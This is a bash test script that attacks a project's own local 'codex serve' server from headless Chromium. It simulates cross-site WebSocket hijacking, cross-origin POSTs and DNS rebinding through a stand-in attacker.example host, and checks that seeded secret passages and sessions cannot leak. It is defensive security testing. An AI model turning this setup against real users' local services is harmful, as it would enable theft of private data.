#!/usr/bin/env bash
# Attacks `codex serve` from headless Chromium as hostile web pages would, and checks that no page
# could read a passage, a session or a token frame, and that nothing changed in the store.
#
# Two kinds of page, both in one browser: one served from another loopback origin (cross-site
# WebSocket hijacking, "simple" POSTs, form posts, preflighted requests), and one whose name
# (attacker.example, mapped to 127.0.0.1 with --host-resolver-rules) first reaches the attacker's
# server and then codex on the same port (DNS rebinding). The same pages run first against a
# server told to trust the attacker (--cors-origin, --allowed-host): there they must succeed, which
# shows the suite sees an attack that works; then against the default server, where all must fail.
# Usage: scripts/test-browser-security.sh   (needs Debian's chromium: apt-get install -y chromium)
#   SKIP_BUILD=1 uses .build/debug/codex as it is (scripts/test.sh has just built it); TRACE=1 prints
#   timings; KEEP=1 keeps the reports, stores and browser logs in the printed folder.
set -euo pipefail
cd "$(dirname "$0")/.."
command -v chromium >/dev/null || { echo "needs: apt-get install -y chromium" >&2; exit 1; }
[[ -n ${SKIP_BUILD:-} ]] || swift build --product codex 2>&1 | grep -E "error|warning: " || true
codex="$PWD/.build/debug/codex"
pages=scripts/browser-security

free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
wait_for() {  # wait_for SECONDS COMMAND...: retries COMMAND every 0.1 s
    local tries=$(($1 * 10)); shift
    for _ in $(seq 1 "$tries"); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done
    return 1
}
WORK=$(mktemp -d /tmp/codex-browser.XXXXXX)
pids=()
cleanup() {
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null || true; done
    if [[ -n ${KEEP:-} ]]; then echo "kept $WORK" >&2; else rm -rf "$WORK"; fi
}
trap cleanup EXIT
started=$(date +%s)
model_port=$(free_port)
python3 scripts/fixture-model.py "$model_port" &
pids+=($!)
wait_for 10 curl -sf "http://127.0.0.1:$model_port/api/version"

# run_suite MODE: MODE is "trusting" (the attacker's origin and name allowed) or "default".
run_suite() {
    local mode=$1 dir="$WORK/$1" suite_started=$SECONDS
    mkdir -p "$dir/home"
    local port attacker_port
    port=$(free_port)
    attacker_port=$(free_port)
    local reports="$dir/reports.jsonl" url="http://127.0.0.1:$port"
    local secret_passage="PASSAGE-SECRET-$RANDOM$RANDOM" secret_session="SESSION-SECRET-$RANDOM$RANDOM"
    touch "$reports"

    # The attacker's site, and the attacker's server on the port codex will take over.
    python3 "$pages/attacker.py" "$attacker_port" "$pages" "$reports" "$dir/go" &
    pids+=($!)
    python3 "$pages/attacker.py" "$port" "$pages" "$reports" &
    local squatter=$!
    wait_for 10 curl -sf "http://127.0.0.1:$attacker_port/attack.html"
    wait_for 10 curl -sf "http://127.0.0.1:$port/rebind.html"
    local next="http://127.0.0.1:$attacker_port/attack.html?target=$url"
    next=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$next")
    chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run \
        --disable-background-networking --user-data-dir="$dir/profile" \
        --host-resolver-rules="MAP attacker.example 127.0.0.1" \
        --disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable \
        "http://attacker.example:$port/rebind.html?report=http://127.0.0.1:$attacker_port&next=$next" \
        >"$dir/chromium.log" 2>&1 &
    local browser=$!
    pids+=("$browser")
    [[ -n ${TRACE:-} ]] && echo "$mode: browser started at +$((SECONDS - suite_started)) s" >&2
    wait_for 30 grep -q '"attack":"loaded"' "$reports" \
        || { echo "FAIL ($mode): the rebinding page never loaded" >&2; tail -5 "$dir/chromium.log" >&2; exit 1; }

    # The name now leads to codex: the attacker's server goes, codex takes its port.
    kill "$squatter" && wait "$squatter" 2>/dev/null || true
    local trust=()
    [[ $mode == trusting ]] && trust=(--cors-origin "http://127.0.0.1:$attacker_port" --allowed-host attacker.example)
    CODEX_HOME="$dir/home" CODEX_EMBEDDER=none OLLAMA_HOST="http://127.0.0.1:$model_port" OLLAMA_MODEL=fixture \
        "$codex" serve --quiet --port "$port" "${trust[@]}" &
    local server=$!
    pids+=("$server")
    wait_for 20 curl -sf "$url/health" || { echo "FAIL ($mode): codex serve did not start" >&2; exit 1; }

    # A private collection and a session, made by the user with curl.
    printf '# Payroll\n\nThe payroll database password is %s.\n' "$secret_passage" >"$dir/payroll.md"
    curl -sf -H 'X-Codex-Client: setup' -F collection=private -F "file=@$dir/payroll.md" "$url/ingest" >/dev/null
    local session
    session=$(curl -sf -H 'Content-Type: application/json' -d "{\"message\":\"remember $secret_session\"}" "$url/chat" \
        | python3 -c 'import json, sys; print(json.load(sys.stdin)["session_id"])')
    sorted_json() { python3 -c 'import json, sys; print(json.dumps(json.load(sys.stdin), sort_keys=True))'; }
    snapshot() {
        curl -sf "$url/memory?limit=500" | sorted_json
        curl -sf "$url/memory/$session?limit=500" | sorted_json
        curl -sf "$url/docs" | sorted_json
        (cd "$dir/home" && find uploads -type f 2>/dev/null | sort)
    }
    snapshot >"$dir/before"
    touch "$dir/go"
    [[ -n ${TRACE:-} ]] && echo "$mode: store seeded, attacks start at +$((SECONDS - suite_started)) s" >&2

    # Both pages end with a "done" report; then the store is compared and the reports searched.
    both_done() { [ "$(grep -c '"attack":"done"' "$reports")" -ge 2 ]; }
    wait_for 90 both_done \
        || { echo "FAIL ($mode): the attack pages did not finish" >&2; cat "$reports" >&2; exit 1; }
    [[ -n ${TRACE:-} ]] && echo "$mode: attacks done at +$((SECONDS - suite_started)) s" >&2
    kill "$browser" && wait "$browser" 2>/dev/null || true
    snapshot >"$dir/after"
    local changed=no
    cmp -s "$dir/before" "$dir/after" || changed=yes
    if [[ $mode == default && $changed == yes ]]; then diff "$dir/before" "$dir/after" >&2 || true; fi
    kill "$server" && wait "$server" 2>/dev/null || true
    python3 - "$mode" "$reports" "$changed" "$secret_passage" "$secret_session" "$session" <<'PY'
import json, sys
mode, path, changed, passage, session_text, session_id = sys.argv[1:7]
reports = [json.loads(line) for line in open(path) if line.strip()]
attacks = [r for r in reports if r["attack"] not in ("loaded", "done")]
def read(marker):
    return sorted({f'{r["phase"]}: {r["attack"]}' for r in attacks if marker.lower() in r["text"].lower()})
found = {
    "a passage": read(passage),
    "a session": sorted(set(read(session_text) + read(session_id))),
    "a token frame or reply": sorted(set(read('"type":"token"') + read("event: token") + read("**fixture**"))),
}
phases = {r["phase"] for r in reports if r["attack"] == "done"}
assert phases == {"cross-site", "dns-rebinding"}, f"pages that finished: {phases}"
opened = sorted({f'{r["phase"]}: {r["attack"]}' for r in attacks if r["outcome"] == "opened"})
if mode == "trusting":
    missing = [what for what, where in found.items() if not where]
    assert not missing, f"a trusting server should have let the pages read {missing}: the suite cannot see attacks"
    assert changed == "yes", "a trusting server should have let the pages change the store"
    print(f"browser attacks, trusting server (--cors-origin/--allowed-host the attacker): {len(attacks)} attempts read "
          + "; ".join(f"{what} ({len(where)})" for what, where in found.items()) + ", and changed the store: as expected")
else:
    leaks = {what: where for what, where in found.items() if where}
    assert not leaks, f"pages read: {leaks}"
    assert not opened, f"sockets opened: {opened}"
    assert changed == "no", "the store changed"
    statuses = sorted({r["outcome"] for r in attacks})
    print(f"browser attacks, default server: {len(attacks)} attempts from 2 pages (cross-site and DNS rebinding), "
          f"0 read a passage, a session or a token frame, 0 sockets opened, store unchanged: OK")
    print("  outcomes seen by the pages: " + "; ".join(statuses))
PY
}

run_suite trusting
run_suite default
echo "browser security: $(chromium --version 2>/dev/null | head -1 | cut -d' ' -f1-2), $(($(date +%s) - started)) s"
